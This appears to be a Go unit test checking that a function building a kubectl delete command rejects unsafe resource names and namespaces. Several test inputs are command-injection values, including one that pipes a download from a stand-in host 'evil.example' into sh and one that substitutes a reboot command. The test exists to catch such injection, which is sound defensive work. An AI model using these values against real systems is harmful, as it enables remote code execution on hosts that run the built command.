package haul_test

import (
	"testing"

	"github.com/bulla-dev/bulla/cmd/bulla/internal/importcmd/haul"
)

func TestACommandToPasteHasNoStrangersWords(t *testing.T) {
	for _, test := range [][4]string{
		{"shop", "jobs", "maker.v1", ": kubectl -n shop delete jobs maker.v1 --cascade=orphan"},
		{"shop", "", "maker", ""},
		{"shop", "jobs", "x; curl evil.example|sh", ""},
		{"shop", "jobs", "$(reboot)", ""},
		{"shop", "jobs", "--all", ""},
		{"shop", "jobs", "", ""},
		{"shop -A", "jobs", "maker", ""},
	} {
		if got := haul.Orphan(test[0], test[1], test[2]); got != test[3] {
			t.Errorf("%q: %q", test[:3], got)
		}
	}
}
